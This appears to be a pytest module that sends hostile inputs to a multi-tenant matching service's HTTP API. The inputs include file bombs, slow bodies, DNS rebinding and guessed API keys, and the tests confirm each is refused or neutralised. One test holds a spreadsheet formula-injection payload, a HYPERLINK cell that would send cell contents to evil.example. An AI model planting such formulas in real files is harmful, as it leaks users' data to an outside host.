"""Hostile files and shared tenants, through the HTTP API (Starlette in this process, no Ray) on a real
PostgreSQL and Valkey: crafted uploads refused by the bounded reader, formula cells inert in both result
files, slow bodies, fairness between tenants, quotas, idempotent submissions, poison rows, deleting a
running job, the retention sweep, open mode's locality, guessed keys, and a job's pinned adapter."""

from __future__ import annotations

import asyncio
import importlib.util
import io
import time
import uuid
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import openpyxl
import pytest
from pydantic import SecretStr

from serve_app.api.app import build_http_app
from serve_app.api.parts import Api
from serve_app.config import IngressConfig, IngressTunables, JobTunables, RetentionPolicy
from serve_app.db.pool import create_pool
from serve_app.directory.browse import DirectoryBrowser
from serve_app.errors import AdapterInvalid
from serve_app.jobs.files import read_table
from serve_app.jobs.outputs import output_header
from serve_app.jobs.results import POISON_ROW_ERROR
from serve_app.jobs.runner import JobRunner
from serve_app.jobs.store import JobStore
from serve_app.models.adapters import AdapterRegistry
from serve_app.models.board import ModelBoard
from serve_app.models.engine import AdapterSpec
from serve_app.ops.retention import sweep
from serve_app.service.admin import AdminService
from serve_app.service.assembly import assemble_query_service
from serve_app.service.tenants import KeyStore
from serve_app.settings import Settings
from tests.conftest import loaded_database

SEED = "华夏银行江油西山支行"
ROOT = Path(__file__).resolve().parents[1]
#: The crafted cases of ``benchmarks/hostile_inputs.py`` (one definition: the benchmark measures them,
#: this checks each one's answer) and the status each must get.
EXPECTED = {
    "xlsx: dimension claims 20,001 × 16,384, one cell at the end": 422,
    "xlsx: one cell a million rows down": 413,
    "xlsx: shared-strings bomb (6M strings)": 422,
    "xlsx: a sheet part of 150 MB of spaces": 422,
    "xlsx: 500 sheets": 201,
    "xlsx: 20,000 merged ranges": 422,
    "csv: 3,000-column header": 422,
    "csv: one 8 MB line": 422,
    "csv: a quoted cell of 1 MB over lines": 422,
    "csv: NUL after the first 64 KiB": 422,
    "jsonl: 1,500 lines of distinct keys": 422,
    "jsonl: nesting 50,000 deep": 422,
    "jsonl: U+2028 inside a value (one row)": 201,
    "utf-16 text": 201,  # Excel's "Unicode text" export (UTF-16 with a BOM)
    "a legitimate 20,000-row CSV": 201,
    "browse filter with a NUL": 422,
}


def hostile_cases() -> dict:
    spec = importlib.util.spec_from_file_location("hostile_inputs", ROOT / "benchmarks" / "hostile_inputs.py")
    module = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
    spec.loader.exec_module(module)  # type: ignore[union-attr]
    return module.cases()


@pytest.fixture(scope="module")
async def hostile_pool(embedded_postgres) -> AsyncIterator:
    pool = await create_pool(await loaded_database(embedded_postgres, "hostile"))
    yield pool
    await pool.close()


class Service:
    def __init__(self, client: httpx.AsyncClient, api: Api, runner: JobRunner):
        self.client, self.api, self.runner = client, api, runner

    async def key(self, tenant: str, adapters: list[str] | None = None) -> dict[str, str]:
        key, _ = await self.api.keys.create(f"{tenant}-{uuid.uuid4().hex[:6]}", adapters or [], None)  # type: ignore[union-attr]
        return {"x-api-key": key}


@pytest.fixture
async def service(hostile_pool, redis_client) -> AsyncIterator[Service]:
    query_service = await assemble_query_service(hostile_pool, redis_client, Settings(), IngressTunables())
    prefix = f"hostile{uuid.uuid4().hex[:6]}"
    query_service.result_cache.prefix = query_service.rate_limiter.prefix = prefix
    admin = AdminService(AdapterRegistry(hostile_pool), ModelBoard(redis_client, prefix=prefix), None, None)
    config = IngressConfig(auth="keys", max_active_jobs_per_tenant=3, body_grace_s=0.5)
    api = Api(query_service, admin, dict, SecretStr("x" * 32), config, DirectoryBrowser(hostile_pool),
              JobStore(hostile_pool), KeyStore(hostile_pool))  # fmt: skip
    runner = JobRunner(api.jobs, query_service.answer, JobTunables(chunk_rows=20))  # type: ignore[arg-type]
    transport = httpx.ASGITransport(app=build_http_app(api))
    async with httpx.AsyncClient(transport=transport, base_url="http://localhost", timeout=60) as client:
        yield Service(client, api, runner)
    await query_service.query_log.close()


async def finish(service: Service, job_id: str, headers: dict) -> dict:
    deadline = time.monotonic() + 60
    while (status := (await service.client.get(f"/api/v1/jobs/{job_id}", headers=headers)).json())["state"] != "done":
        assert time.monotonic() < deadline, status
        await service.runner.run_chunk()
    return status


async def test_crafted_files_are_refused_quickly_and_named(service: Service) -> None:
    cases = hostile_cases()
    assert set(EXPECTED) <= set(cases)
    for name, expected in EXPECTED.items():
        path, body = cases[name]()
        headers = await service.key("crafted")
        started = time.perf_counter()
        if path.startswith("/api/v1/jobs"):
            response = await service.client.post(path, content=body, headers=headers)
        else:
            response = await service.client.get(path, headers=headers)
        assert response.status_code == expected, (name, response.text[:300])
        assert time.perf_counter() - started < 10, name  # the benchmark's goal is 2 s; this machine is shared
        if expected >= 400:
            assert response.json()["error"]["message"], name


async def test_formula_cells_come_back_inert_in_both_downloads(service: Service) -> None:
    headers = await service.key("formulas")
    cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1)", "-2+3", "-12.50"]
    upload = "备注,对方行名\n" + "".join(f'"{c.replace(chr(34), chr(34) * 2)}",{SEED}\n' for c in cells)
    created = (await service.client.post("/api/v1/jobs", content=upload.encode(), headers=headers)).json()
    await finish(service, created["id"], headers)
    result_csv = (await service.client.get(f"/api/v1/jobs/{created['id']}/result.csv", headers=headers)).text
    first_column = [line.split(",")[0].strip('"') for line in result_csv.lstrip("\ufeff").splitlines()[1:]]
    assert first_column == ['\'=HYPERLINK(""http://evil.example/?""&A1', "'+1+1", "'@SUM(A1)", "'-2+3", "-12.50"]
    workbook = (await service.client.get(f"/api/v1/jobs/{created['id']}/result.xlsx", headers=headers)).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    values = [row[0] for row in openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows(2, values_only=True)]
    assert values == cells  # the text itself, stored as text
    again = (await service.client.get(f"/api/v1/jobs/{created['id']}/result.xlsx", headers=headers)).content
    assert again == workbook  # built once, kept


async def test_a_slow_body_is_408_while_another_tenant_is_served(service: Service) -> None:
    slow, other = await service.key("slow"), await service.key("other")

    async def drip() -> AsyncIterator[bytes]:
        for byte in f"对方行名\n{SEED}\n".encode():
            yield bytes([byte])
            await asyncio.sleep(0.3)

    upload = asyncio.create_task(service.client.post("/api/v1/jobs", content=drip(), headers=slow))
    answered = []
    while not upload.done():
        response = await service.client.post("/api/v1/query", json={"query": SEED}, headers=other)
        answered.append(response.status_code)
        await asyncio.sleep(0.05)
    refused = await upload
    assert refused.status_code == 408 and refused.json()["error"]["code"] == "body_timeout"
    assert len(answered) >= 5 and set(answered) == {200}


async def test_a_tenant_with_one_job_is_not_starved_by_one_with_many(service: Service, hostile_pool) -> None:
    store = service.api.jobs
    assert store is not None
    many, one = f"many-{uuid.uuid4().hex[:6]}", f"one-{uuid.uuid4().hex[:6]}"
    table = read_table(("对方行名\n" + f"{SEED}\n" * 100).encode(), max_rows=1000)
    many_jobs = [await store.submit(many, "m.csv", table, None) for _ in range(20)]
    [single] = [await store.submit(one, "o.csv", table, None)]
    rows = {many: 0, one: 0}
    while (await store.status(one, single.id)).state != "done":
        async with store.claim(20, 60) as chunk:
            assert chunk is not None
            await chunk.commit(await service.runner._answer_chunk(chunk))
        owner = await store.pool.fetchval("SELECT tenant FROM jobs WHERE id = $1", chunk.job_id)
        if owner in rows:  # other tests' unfinished jobs take their turns too
            rows[owner] += len(chunk.row_numbers)
    assert rows[one] / (rows[one] + rows[many]) >= 0.4, rows  # both active throughout: turns by tenant
    async with hostile_pool.acquire() as conn:  # the other tenant's jobs, unfinished, go
        await conn.execute("DELETE FROM job_rows WHERE job_id = ANY($1::uuid[])", [uuid.UUID(j.id) for j in many_jobs])
        await conn.execute("DELETE FROM jobs WHERE tenant = $1", many)


async def test_quotas_idempotency_and_the_cost_of_a_job(service: Service) -> None:
    headers = await service.key("quota")
    upload = f"对方行名\n{SEED}\n".encode()
    keyed = headers | {"idempotency-key": "statement-2026-11"}
    first = await service.client.post("/api/v1/jobs", content=upload, headers=keyed)
    retry = await service.client.post("/api/v1/jobs", content=upload, headers=keyed)  # the client never saw the 201
    assert first.status_code == retry.status_code == 201 and first.json()["id"] == retry.json()["id"]
    jobs = (await service.client.get("/api/v1/jobs", headers=headers)).json()
    assert [job["id"] for job in jobs] == [first.json()["id"]]
    for _ in range(2):  # the quota in this app: 3 jobs queued or running
        assert (await service.client.post("/api/v1/jobs", content=upload, headers=headers)).status_code == 201
    refused = await service.client.post("/api/v1/jobs", content=upload, headers=headers)
    assert refused.status_code == 429 and refused.json()["error"]["code"] == "quota_exceeded"
    assert "retry-after" in refused.headers
    bad = await service.client.post("/api/v1/jobs", content=upload, headers=headers | {"idempotency-key": "a b"})
    assert bad.status_code == 422


async def test_a_poison_row_is_marked_and_its_job_finishes(service: Service) -> None:
    store = service.api.jobs
    assert store is not None
    table = read_table(f"对方行名\n{SEED}\n毒药行\n{SEED}\n".encode(), max_rows=10)
    job = await store.submit(f"poison-{uuid.uuid4().hex[:6]}", "p.csv", table, None)
    answer = service.api.service.answer

    async def breaks_on_one_text(request, adapter, tenant=None):
        if request.query == "毒药行":
            raise TypeError("a bug this text triggers")
        return await answer(request, adapter, tenant=tenant)

    runner = JobRunner(store, breaks_on_one_text, JobTunables(chunk_rows=10))
    tenant = await store.pool.fetchval("SELECT tenant FROM jobs WHERE id = $1", uuid.UUID(job.id))
    for _ in range(50):  # other tests' jobs may take turns; the row never makes a chunk fail
        if (status := await store.status(tenant, job.id)).state == "done":
            break
        await runner.run_chunk()
    assert runner.stats.failed_chunks == 0
    assert status.state == "done" and status.counts.error == 1 and status.counts.match == 2
    job_status, pages = await store.result_pages(tenant, job.id)
    rows = [row async for page in pages for row in page]
    assert rows[1][output_header(job_status.columns, "en").index("error")] == POISON_ROW_ERROR


async def test_deleting_a_running_job_waits_for_its_chunk_and_does_not_deadlock(service: Service) -> None:
    store = service.api.jobs
    assert store is not None
    tenant = f"deleter-{uuid.uuid4().hex[:6]}"
    job = await store.submit(tenant, "d.csv", read_table(("对方行名\n" + f"{SEED}\n" * 50).encode(), max_rows=99), None)
    async with store.claim(20, 60) as chunk:
        assert chunk is not None
        deleting = asyncio.create_task(store.delete(tenant, job.id))
        await asyncio.sleep(0.3)
        assert not deleting.done()  # it waits for the rows this worker holds
        await chunk.commit(await service.runner._answer_chunk(chunk))
    await asyncio.wait_for(deleting, 10)
    assert await store.pool.fetchval("SELECT count(*) FROM job_rows WHERE job_id = $1", uuid.UUID(job.id)) == 0


async def test_the_retention_sweep_deletes_what_is_old_and_only_that(service: Service, hostile_pool) -> None:
    store = service.api.jobs
    assert store is not None
    tenant = f"old-{uuid.uuid4().hex[:6]}"
    table = read_table(f"对方行名\n{SEED}\n".encode(), max_rows=9)
    old, new = await store.submit(tenant, "old.csv", table, None), await store.submit(tenant, "new.csv", table, None)
    async with hostile_pool.acquire() as conn:
        await conn.execute("UPDATE jobs SET state = 'done', finished_at = now() - interval '40 days' WHERE id = $1",
                           uuid.UUID(old.id))  # fmt: skip
        marker = f"sweep-{uuid.uuid4().hex}"
        await conn.execute(
            """INSERT INTO query_log (created_at, query, normalized, source, matches, latency_ms)
               VALUES (now() - interval '100 days', $1, $1, 'rules', 0, 1), (now(), $1, $1, 'rules', 0, 1)""",
            marker,
        )
        deleted = await sweep(hostile_pool, RetentionPolicy(query_log_days=90, job_days=30))
        assert deleted is not None and deleted["jobs"] >= 1 and deleted["job_rows"] >= 1 and deleted["query_log"] >= 1
        assert await conn.fetchval("SELECT count(*) FROM query_log WHERE query = $1", marker) == 1
        assert await conn.fetchval("SELECT count(*) FROM jobs WHERE id = $1", uuid.UUID(old.id)) == 0
        assert await conn.fetchval("SELECT count(*) FROM jobs WHERE id = $1", uuid.UUID(new.id)) == 1


async def test_open_mode_answers_only_its_own_machine(hostile_pool, redis_client) -> None:
    query_service = await assemble_query_service(hostile_pool, redis_client, Settings(), IngressTunables())
    app = build_http_app(Api(query_service, None, dict, None))  # type: ignore[arg-type]
    local = httpx.ASGITransport(app=app, client=("127.0.0.1", 5000))
    remote = httpx.ASGITransport(app=app, client=("203.0.113.7", 5000))
    async with httpx.AsyncClient(transport=local, base_url="http://localhost") as client:
        assert (await client.post("/api/v1/query", json={"query": SEED})).status_code == 200
        page = await client.get("/")
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    async with httpx.AsyncClient(transport=local, base_url="http://attacker.example") as client:  # DNS rebinding
        assert (await client.post("/api/v1/query", json={"query": SEED})).status_code == 403
    async with httpx.AsyncClient(transport=remote, base_url="http://localhost") as client:
        refused = await client.get("/api/v1/jobs")
        assert refused.status_code == 403 and "auth: keys" in refused.json()["error"]["message"]
    await query_service.query_log.close()


async def test_guessed_keys_are_limited_and_never_push_a_real_key_out(service: Service) -> None:
    real = await service.key("real")
    statuses = []
    limiter = service.api.service.rate_limiter
    limiter.burst, limiter.rate_per_s = 20, 1.0  # a small, slow bucket: the test need not send thousands
    try:
        for n in range(60):  # made-up keys from one address: each costs its bucket a token, not a query
            guess = f"sak_{n:08x}_{'A' * 43}"
            statuses.append((await service.client.get("/api/v1/jobs", headers={"x-api-key": guess})).status_code)
    finally:
        limiter.burst, limiter.rate_per_s = IngressTunables().rate_limit_burst, IngressTunables().rate_limit_per_s
    assert statuses[0] == 401 and statuses[-1] == 429  # past the burst, guessing is rate limited
    assert (await service.client.get("/api/v1/jobs", headers=real)).status_code == 200


async def test_a_job_keeps_the_adapter_revision_it_was_created_with(service: Service, tmp_path) -> None:
    registry = AdapterRegistry(service.api.service.repository.pool)
    name = f"pin{uuid.uuid4().hex[:6]}"
    spec = AdapterSpec(name=name, path=tmp_path, base_model="demo-base", rank=8)
    first = await registry.register(spec, name)
    pinned = await service.api.service.adapter_ref(name)
    assert pinned == first.ref
    assert await service.api.service.adapter_ref(pinned) == pinned  # the pinned revision is still the one
    again = await registry.upsert(spec, name + "_v2")  # registered again: a new revision
    service.api.service._adapter_refs = (0.0, {})  # what a worker does before each chunk (refresh_for_chunk)
    with pytest.raises(AdapterInvalid, match=f"now {again.ref}"):
        await service.api.service.adapter_ref(pinned)
    await registry.delete(name)
